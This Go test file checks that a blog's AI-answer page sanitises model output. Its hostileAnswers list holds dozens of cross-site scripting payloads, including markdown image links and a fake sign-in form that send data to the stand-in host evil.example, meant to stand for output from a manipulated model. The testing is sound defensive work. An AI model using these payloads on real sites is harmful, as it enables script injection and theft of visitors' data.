package web

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/caddy-ollama/caddy-ollama/blog/assistant"
)

// hostileAnswers is what a model may write that was talked into it.
var hostileAnswers = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<img src=x onerror=alert(1)>`,
	`![leak](https://evil.example/?what=the+question)`,
	"![leak][1]\n\n[1]: https://evil.example/a.png",
	`<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>`,
	`<math><mtext></table></math><img src=x onerror=alert(1)>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`[click](javascript:alert(1))`,
	"[click](java\tscript:alert(1))",
	`[click](&#106;avascript&colon;alert(1))`,
	`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[click](vbscript:msgbox(1))`,
	`<javascript:alert(1)>`,
	`[a](https://x.example "\" onmouseover=\"alert(1)")`,
	"[x]: javascript:alert(1)\n\n[x]",
	`</section><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`--><script>alert(1)</script>`,
	`<style>@import url(//evil.example)</style>`,
	`<form action="//evil.example"><input name=password><button>Sign in again</button></form>`,
	`<input type=text autofocus onfocus=alert(1)>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<base href="//evil.example/">`,
	`<a href="https://evil.example" style="position:fixed;inset:0">x</a>`,
	"```\"><script>alert(1)</script>\ncode\n```",
	"```html onload=alert(1)\n<script>alert(1)</script>\n```",
	"|a|b|\n|-|-|\n|<script>alert(1)</script>|[x](javascript:alert(1))|",
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<video><source onerror=alert(1)></video><audio src=//evil.example autoplay>`,
	`<object data="javascript:alert(1)"></object><embed src=//evil.example>`,
	strings.Repeat(">", 2000) + `<script>alert(1)</script>`, // refused by the renderer
	"\xff<script>alert(1)</script>\x00",
	"event: done\ndata: {\"html\":\"<script>alert(1)</script>\"}\n\n",
}

// What may be in what a model wrote.
var harmless = strings.Fields("section p br hr blockquote em strong del code pre ul ol li table thead tbody tr th td h1 h2 h3 h4 h5 h6 a span input")

// checkGenerated reports what could run, load, or send something.
func checkGenerated(t *testing.T, n *html.Node) {
	t.Helper()
	if n.Type == html.ElementNode && !slices.Contains(harmless, n.Data) {
		t.Errorf("element %s", n.Data)
	}
	for _, a := range n.Attr {
		if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "src" || a.Key == "name" {
			t.Errorf("attribute %s=%q of %s", a.Key, a.Val, n.Data)
		}
		if n.Data == "input" && a.Key == "type" && a.Val != "checkbox" {
			t.Errorf("input of type %q", a.Val)
		}
		if a.Key != "href" {
			continue
		}
		to, err := url.Parse(strings.TrimSpace(a.Val))
		if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, strings.ToLower(to.Scheme)) {
			t.Errorf("link to %q", a.Val)
		}
	}
	for c := range n.ChildNodes() {
		checkGenerated(t, c)
	}
}

// elementsOf are all of a name.
func elementsOf(n *html.Node, name string) (all []*html.Node) {
	for d := range n.Descendants() {
		if d.Type == html.ElementNode && d.Data == name {
			all = append(all, d)
		}
	}
	return all
}

func attributeOf(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// frameOf is what of a page could run, load or send something, outside of what a model wrote, which
// it checks.
func frameOf(t *testing.T, source io.Reader) (outside []string, generated int) {
	t.Helper()
	page, err := html.Parse(source)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range elementsOf(page, "section") {
		if attributeOf(s, "class") == "generated" {
			checkGenerated(t, s)
			s.Parent.RemoveChild(s)
			generated++
		}
	}
	for _, name := range []string{"script", "form", "img", "svg", "iframe", "object", "embed", "style", "link", "meta", "base", "input", "button", "a"} {
		for _, e := range elementsOf(page, name) {
			outside = append(outside, fmt.Sprint(name, e.Attr))
		}
	}
	return outside, generated
}

func TestAI_NothingThatAModelWritesRuns(t *testing.T) {
	model := &scripted{says: []string{"Good."}, reply: assistant.Reply{Model: "good"}, name: "good"}
	r := newAIRig(t, model)
	r.handler.visitors = newVisitors(visitorLimits{every: 1, burst: 1000, atOnce: 2, together: 2, known: 1})
	ask := func(question string) ([]string, int) {
		return frameOf(t, r.do(postForm("/ai-inference", url.Values{"question": {question}}, nil)).Body)
	}
	form := func() []string {
		outside, _ := frameOf(t, r.do(httptest.NewRequest(http.MethodGet, "/ai-inference", nil)).Body)
		return outside
	}
	goodAnswer, _ := ask("good")
	goodForm := form()
	for _, text := range append(hostileAnswers, strings.Join(hostileAnswers, "\n\n")) {
		// Its name and the question come from elsewhere, and are no better.
		model.says, model.reply, model.name = []string{text}, assistant.Reply{Model: text}, text
		for _, model.err = range []error{nil, &assistant.Error{Kind: assistant.ErrTruncated}} {
			outside, generated := ask(text[:min(len(text), 500)])
			if generated != 1 || !slices.Equal(outside, goodAnswer) {
				t.Errorf("%q: the page has\n%q, want\n%q", text, outside, goodAnswer)
			}
		}
		model.err = nil
		checkDone(t, r.do(postForm("/ai-inference", url.Values{"question": {"x"}}, asScript)).Body.String())
		if got := form(); !slices.Equal(got, goodForm) {
			t.Errorf("a model called %q: the form has %q", text, got)
		}
	}
}

// checkDone looks at the one piece of HTML in a stream; everything else there is shown as text.
func checkDone(t *testing.T, stream string) {
	t.Helper()
	events := eventsOf(t, stream)
	name, data, _ := strings.Cut(events[len(events)-1], " ")
	var done struct{ HTML string }
	if err := json.Unmarshal([]byte(data), &done); name != "done" || err != nil || len(events) != 2 {
		t.Fatalf("events %q: %v", events, err)
	}
	parts, err := html.ParseFragment(strings.NewReader(done.HTML), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range parts {
		checkGenerated(t, part)
	}
}
